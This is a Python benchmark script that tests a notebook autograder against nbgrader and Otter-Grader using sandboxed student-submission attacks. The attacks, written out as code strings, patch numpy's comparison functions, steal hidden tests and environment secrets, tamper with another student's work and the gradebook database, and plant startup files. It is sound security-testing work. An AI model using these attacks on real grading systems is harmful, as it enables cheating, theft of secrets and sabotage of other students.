"""Tries the same attacks on this kit, plain nbgrader and Otter-Grader, and says what came of each.

    python benchmarks/attacks.py [--only NAME]

Two students hand in: one attacks, and after that one whose work is right is graded. All of it happens in a temporary
folder, home and temporary files included, with a limit on time, and no attack looks, writes or connects outside of that
folder and one port of this machine's own. Writes `benchmarks/results/attacks.json`, and the table in
`docs/security.md`.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import secrets
import socket
import subprocess
import tempfile
import threading
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Final, Literal, TypeAlias

import classes
import compare
import peers
import tables
from classes import RIGHT, UNIT, Student

from autograder.gradebook import results
from autograder.version import __version__

RESULTS: Final = compare.ROOT / "benchmarks" / "results" / "attacks.json"
PAGE: Final = compare.ROOT / "docs" / "security.md"
ATTACKER, NEXT = "mallory", "zoe"
POINTS: Final = 10
SECONDS: Final = 30  # nbgrader's own limit for a cell; after as long Otter, which has none, is ended
GIBIBYTES: Final = 1  # that the attack on memory takes
Grader: TypeAlias = Literal["nbgrader", "Otter-Grader", "this kit"]

# What comes before every attack: where it may look, and how it tells what it has found.
_PRELUDE: Final = """
import glob, os, socket, subprocess, sys, time
import numpy as np
ROOT, PORT = {root!r}, {port}
HIDDEN = [bytes.fromhex(text) for text in {hidden!r}]
def tell(text):
    print(text)
    try:
        with socket.create_connection(("127.0.0.1", PORT), 2) as line:
            line.sendall(str(text).encode())
    except OSError:
        pass
def files(pattern):
    return [path for path in glob.glob(ROOT + "/**/" + pattern, recursive=True, include_hidden=True) if os.path.isfile(path)]
"""
_ANY: Final = {name: f"def {name}(*inputs):\n    return np.zeros(1)\n" for name in RIGHT}
_BACKGROUND: Final = (
    "subprocess.Popen([sys.executable, '-c', program], start_new_session=True, stdout=-3, stderr=-3)"
)


@dataclass(frozen=True)
class Seen:
    """What is left once a grader is done."""

    attacker: float | None  # points; None: not graded
    next: float | None
    told: str  # what came out: over the port, and in what goes back to the student
    returned: str  # what goes back to the student alone
    changed: bool  # the next student's file
    made: bool  # a file in the grader's folders
    seconds: float


@dataclass(frozen=True)
class Attack:
    """What a student hands in, and how its success shows."""

    name: str
    what: str
    harm: Callable[[Seen, dict[str, str]], str]  # in words; empty where there is none
    code: str = ""
    functions: tuple[tuple[str, str], ...] = tuple(
        _ANY.items()
    )  # nothing right in them, if not said otherwise


def _unearned(seen: Seen, _: dict[str, str]) -> str:
    return f"{seen.attacker:g} of {POINTS} points unearned" if seen.attacker else ""


def _lost(seen: Seen, _: dict[str, str]) -> str:
    """Where the functions are right: the fair outcome is full marks."""
    if seen.attacker is None:
        return "right work is not graded"
    return (
        "" if seen.attacker == POINTS else f"right work loses {POINTS - seen.attacker:g} of {POINTS} points"
    )


def _others(seen: Seen, _: dict[str, str]) -> str:
    if seen.next is None:
        return "the next student is not graded"
    return "" if seen.next == POINTS else f"the next student loses {POINTS - seen.next:g} of {POINTS} points"


def _says(key: str, words: str) -> Callable[[Seen, dict[str, str]], str]:
    return lambda seen, tokens: words if any(one in seen.told for one in tokens[key].split("\n")) else ""


ATTACKS: Final = (
    Attack(
        "patch-assert",
        "Patches `np.testing.assert_allclose`",
        _unearned,
        "import numpy.testing\nnumpy.testing.assert_allclose = np.testing.assert_allclose = lambda *_, **__: None",
    ),
    Attack(
        "patch-isclose",
        "Patches `np.isclose` and `np.allclose`, on which other comparisons rest",
        _unearned,
        "import numpy.testing\n"
        "from numpy._core import numeric\n"
        "numeric.isclose = np.isclose = lambda a, b, *_, **__: np.ones(np.broadcast(a, b).shape, bool)\n"
        "numeric.allclose = np.allclose = lambda *_, **__: True",
        tuple(
            (name, f"def {name}(a, *more):\n    return {value}\n")
            for name, value in (
                ("scaled_scores", "np.zeros((len(a), len(more[0])))"),
                ("softmax", "np.zeros(a.shape)"),
                ("attend", "np.zeros((len(a), more[1].shape[1]))"),
            )
        ),
    ),
    Attack(
        "equal-to-everything",
        "Returns an object that is equal to everything",
        _unearned,
        "class Anything(np.ndarray):\n"
        "    def __array_ufunc__(self, *_, **__): return anything\n"
        "    def __array_function__(self, *_, **__): return anything\n"
        "    def sum(self, *_, **__): return self\n"
        "    def all(self, *_, **__): return np.True_\n"
        "    def __eq__(self, _): return self\n"
        "    __hash__ = None\n"
        "anything = np.ones(()).view(Anything)",
        tuple((name, f"def {name}(*inputs):\n    return anything\n") for name in RIGHT),
    ),
    Attack(
        "reference",
        "Calls the reference that the tests compare with, found in the frames that call it",
        _unearned,
        "def found(name, inputs):\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        for space in (frame.f_locals, frame.f_globals):\n"
        "            if '_' + name in space: return space['_' + name](*inputs)\n"
        "        frame = frame.f_back\n"
        "def weights(x): return found('weights', [x])",
        (
            ("scaled_scores", "def scaled_scores(*inputs):\n    return found('scores', inputs)\n"),
            ("softmax", "def softmax(x):\n    return found('weights', [x])\n"),
            ("attend", "def attend(Q, K, V):\n    return found('weights', [found('scores', [Q, K])]) @ V\n"),
        ),
    ),
    Attack(
        "read-tests",
        "Reads the hidden tests from the disk",
        _says("hidden", "hidden tests read"),
        "import zipfile\n"
        "for path in files('*'):\n"
        "    try:\n"
        "        parts = [open(path, 'rb').read(10**7)]\n"
        "        if zipfile.is_zipfile(path):\n"
        "            parts += [zipfile.ZipFile(path).read(name) for name in zipfile.ZipFile(path).namelist()]\n"
        "    except OSError:\n"
        "        continue\n"
        "    for part in parts:\n"
        "        for text in HIDDEN:\n"
        "            if text in part: tell(part[part.index(text):][:len(text)].decode())",
    ),
    Attack(
        "feedback",
        "Does nothing but be wrong, and reads the hidden tests in the feedback",
        lambda seen, tokens: (
            "hidden tests shown" if any(one in seen.returned for one in tokens["hidden"].split("\n")) else ""
        ),
    ),
    Attack(
        "rewrite-results",
        "Leaves a process that rewrites its results",
        _unearned,
        'program = f"""\n'
        "import glob, re, sqlite3, time\n"
        "for _ in range(40):\n"
        "    time.sleep(0.3)\n"
        "    for path in glob.glob({ROOT!r} + '/**/*', recursive=True):\n"
        "        try:\n"
        "            if path.endswith('gradebook.db'):\n"
        "                with sqlite3.connect(path, timeout=1) as book:\n"
        "                    book.execute('UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = cell_id)')\n"
        "            elif path.endswith(('mallory/results.json', 'mallory.json')):\n"
        "                text = open(path).read()\n"
        "                open(path, 'w').write(re.sub(r'\\\"score\\\": [0-9.]+', '\\\"score\\\": 3', text))\n"
        "        except (OSError, sqlite3.Error):\n"
        "            pass\n"
        '"""\n' + _BACKGROUND,
    ),
    Attack(
        "background",
        "Leaves a process that goes on after grading",
        lambda seen, _: "it went on" if seen.made else "",
        "program = f\"import time; time.sleep(4); open({ROOT + '/made'!r}, 'w').close()\"\n" + _BACKGROUND,
    ),
    Attack(
        "environment",
        "Reads the environment of whoever grades",
        _says("environment", "environment read"),
        "tell(dict(os.environ))",
    ),
    Attack(
        "read-other",
        "Reads another student's submission",
        _says("other", "another's work read"),
        "for path in files('self-attention.ipynb'):\n    if '/zoe/' in path: tell(open(path).read())",
    ),
    Attack(
        "change-other",
        "Changes another student's submission",
        lambda seen, _: "another's work changed" if seen.changed else "",
        "for path in files('self-attention.ipynb'):\n"
        "    if '/zoe/' in path:\n"
        "        text = open(path).read()\n"
        "        open(path, 'w').write(text.replace('np.sqrt', 'np.cbrt'))",
    ),
    Attack(
        "left-behind",
        "Leaves a start-up file that the next student's Python reads",
        _others,
        "folder = os.environ.get('IPYTHONDIR', ROOT) + '/profile_default/startup'\n"
        "os.makedirs(folder, exist_ok=True)\n"
        "text = '''\nimport numpy.testing\ndef refuse(*_, **__): raise AssertionError\n"
        "numpy.testing.assert_allclose = refuse\n'''\n"
        "open(folder + '/00-mine.py', 'w').write(text)",
    ),
    Attack(
        "network",
        "Connects to a server on the grading machine",
        _says("sum", "connected"),
        "tell(f'sum {2**61 - 1}')",
    ),
    Attack(
        "os-exit",
        "Right functions, and a cell with `os._exit(0)`",
        _lost,
        "os._exit(0)",
        tuple(RIGHT.items()),
    ),
    Attack(
        "sys-exit", "Right functions, and a cell with `sys.exit()`", _lost, "sys.exit()", tuple(RIGHT.items())
    ),
    Attack(
        "loop",
        "Right functions, and a cell that loops without end",
        _lost,
        "while True: pass",
        tuple(RIGHT.items()),
    ),
    Attack(
        "memory",
        f"Takes {GIBIBYTES} GiB of memory",
        _says("memory", f"{GIBIBYTES} GiB taken"),
        f"block = np.ones({GIBIBYTES} * 2**27)\ntell(f'took {{block.nbytes}}')\ndel block",
    ),
)


@dataclass(frozen=True)
class Row:
    """What came of one attack under one grader."""

    attack: str
    grader: Grader
    harm: str  # empty: none
    attacker: float | None
    next: float | None


class Port:
    """A port of this machine that takes in whatever is said to it."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.number: int = self._listener.getsockname()[1]
        self._heard: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def heard(self) -> str:
        """All that was said since it was last asked."""
        heard, self._heard = self._heard, []
        return b"\n".join(heard).decode("utf-8", "replace")

    def _listen(self) -> None:
        while True:
            line, _ = self._listener.accept()
            with line, contextlib.suppress(OSError):
                line.settimeout(2)
                while part := line.recv(2**16):
                    self._heard.append(part)


def main() -> None:
    """Tries all, writes and prints."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n")[0])
    parser.add_argument("--only", help="this attack alone, and write nothing")
    asked = parser.parse_args()
    others = {"nbgrader": peers.install("nbgrader"), "Otter-Grader": peers.install("otter-grader")}
    chosen = [attack for attack in ATTACKS if asked.only in (None, attack.name)]
    rows = []
    with tempfile.TemporaryDirectory(prefix="autograder-attacks-") as folder:
        for attack in chosen:
            for grader in ("this kit", *others):
                root = Path(folder) / f"{attack.name}-{grader.replace(' ', '-')}"
                rows.append(_tried(attack, grader, others.get(grader), root))  # type: ignore[arg-type]
                print(f"{attack.name:20} {grader:14} {rows[-1].harm or '-'}", flush=True)
    found = {
        "date": f"{datetime.now(UTC):%Y-%m-%d}",
        "versions": {"this kit": __version__} | {name: peer.version for name, peer in others.items()},
        "rows": [asdict(row) for row in rows],
    }
    if asked.only is None:
        RESULTS.parent.mkdir(exist_ok=True)
        RESULTS.write_text(json.dumps(found, indent=1) + "\n")
        tables.rewrite(PAGE, "measured attacks", table(found))
    print(table(found))


def table(found: dict[str, Any]) -> str:
    """The attacks with what came of them under each grader, as Markdown."""
    versions = found["versions"]
    heads = [f"{grader} {version}" for grader, version in versions.items()]
    lines = [
        f"Measured on {found['date']}.",
        "",
        f"| what is handed in | {' | '.join(heads)} |",
        "|---|---|---|---|",
    ]
    harm = {(row["attack"], row["grader"]): row["harm"] for row in found["rows"]}
    counts = dict.fromkeys(versions, 0)
    for attack in ATTACKS:
        if (attack.name, "this kit") in harm:
            cells = [harm[attack.name, grader] for grader in versions]
            for grader, cell in zip(versions, cells, strict=True):
                counts[grader] += bool(cell)
            lines.append(
                f"| {attack.what} | {' | '.join(f'**{cell}**' if cell else 'no harm' for cell in cells)} |"
            )
    lines.append(f"| **harm in** | {' | '.join(f'**{count}**' for count in counts.values())} |")
    return "\n".join(lines)


def _tried(attack: Attack, grader: Grader, peer: peers.Peer | None, root: Path) -> Row:
    """One attack under one grader, in a folder of its own."""
    port = Port()
    tokens = {name: secrets.token_hex(8) for name in ("environment", "other")}
    hidden = [_kit_needle()] if peer is None else ["_weights(_scores(Q, K)) @ V"]
    tokens |= {"hidden": "\n".join(hidden), "sum": f"sum {2**61 - 1}", "memory": f"took {GIBIBYTES * 2**30}"}
    root.mkdir()
    prelude = _PRELUDE.format(
        root=str(root), port=port.number, hidden=[text.encode().hex() for text in hidden]
    )
    students = [
        Student(ATTACKER, attack.name, _notebook(dict(attack.functions), prelude + attack.code, "")),
        Student(NEXT, "right", _notebook(RIGHT, "", tokens["other"])),
    ]
    with _surroundings(root, tokens["environment"]):
        seen = _graded(grader, peer, root, students, port)
    return Row(attack.name, grader, attack.harm(seen, tokens), seen.attacker, seen.next)


def _notebook(functions: dict[str, str], code: str, signature: str) -> bytes:
    """The released notebook with these functions, and a cell of the student's own before them."""
    released = json.loads(compare.RELEASE.read_bytes())
    notebook = classes.filled(released, functions, signature)
    own = {
        "cell_type": "code",
        "source": code,
        "metadata": {},
        "outputs": [],
        "execution_count": None,
        "id": "own",
    }
    notebook["cells"].insert(2, own)
    return json.dumps(notebook).encode()


@contextlib.contextmanager
def _surroundings(root: Path, token: str) -> Iterator[None]:
    """Home, temporary files and IPython's settings inside the folder; something secret in the environment."""
    before = dict(os.environ)
    for name in ("HOME", "TMPDIR", "IPYTHONDIR"):
        (root / name.lower()).mkdir()
        os.environ[name] = str(root / name.lower())
    os.environ["GRADING_TOKEN"] = token
    try:
        yield
    finally:
        os.environ.clear()
        os.environ.update(before)


def _graded(grader: Grader, peer: peers.Peer | None, root: Path, students: list[Student], port: Port) -> Seen:
    """Has both graded, and looks at what is left."""
    folder = root / "course"
    seconds = 0.0
    if grader == "nbgrader" and peer is not None:
        folder.mkdir()
        seconds = peers.nbgrader(peer, folder, compare.RELEASE, students, SECONDS).wall
        scores = _nbgrader_scores(peer, folder)
        back = folder / "feedback" / ATTACKER
        handed_in = folder / "submitted" / NEXT / UNIT
    elif peer is not None:
        seconds = peers.otter(peer, folder, students, SECONDS).wall
        scores = {student.name: _otter_score(folder / student.name) for student in students}
        back = folder / ATTACKER / "results.json"
        handed_in = folder / NEXT
    else:
        compare.course(folder)
        for student in students:
            place = folder / "submitted" / student.name / UNIT
            place.mkdir(parents=True)
            (place / f"{UNIT}.ipynb").write_bytes(student.notebook)
        seconds = compare.grade(folder).wall
        scores = {}
        for student in students:
            result = results.read(results.path(folder, UNIT, student.name))
            scores[student.name] = None if result is None else result.score
        back = folder / "feedback" / ATTACKER
        handed_in = folder / "submitted" / NEXT / UNIT
    returned = _visible(back)
    return Seen(
        attacker=scores.get(ATTACKER),
        next=scores.get(NEXT),
        told=port.heard() + returned,
        returned=returned,
        changed="np.cbrt" in (handed_in / f"{UNIT}.ipynb").read_text("utf-8"),
        made=(root / "made").exists(),
        seconds=seconds,
    )


def _visible(back: Path) -> str:
    """The text of what goes back to a student; of Otter's results what it does not mark as hidden."""
    if back.name == "results.json":
        if not back.exists():
            return ""
        found = json.loads(back.read_text("utf-8"))
        return json.dumps([one for one in found.get("tests", []) if one.get("visibility") != "hidden"])
    pages = [path.read_text("utf-8", "replace") for path in back.rglob("*") if path.is_file()]
    return "\n".join(pages)


def _nbgrader_scores(peer: peers.Peer, folder: Path) -> dict[str, float | None]:
    """The marks that a machine gave; nobody's who has none."""
    program = (
        "import json\nfrom nbgrader.api import Gradebook\n"
        "with Gradebook('sqlite:///gradebook.db') as book:\n"
        f"    found = {{one.student.id: sum(g.auto_score or 0 for n in one.notebooks for g in n.grades if g.name.startswith('check')) for one in book.assignment_submissions({UNIT!r})}}\n"
        "print(json.dumps(found))"
    )
    command = [peer.programs / "python", "-c", program]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=True)
    # A submission that failed is entered, and has nothing in autograded/.
    scores: dict[str, float | None] = json.loads(done.stdout.splitlines()[-1])
    return {name: score for name, score in scores.items() if (folder / "autograded" / name / UNIT).is_dir()}


def _otter_score(folder: Path) -> float | None:
    try:
        found = json.loads((folder / "results.json").read_text("utf-8"))
    except (OSError, ValueError):
        return None
    return float(sum(test.get("score", 0) for test in found.get("tests", [])))


def _kit_needle() -> str:
    """A line of the kit's own hidden tests for the same unit."""
    lines = (compare.ROOT / "solutions" / UNIT / "test_hidden.py").read_text("utf-8").splitlines()
    return max((line.strip() for line in lines if "attempt" in line), key=len)


if __name__ == "__main__":
    main()
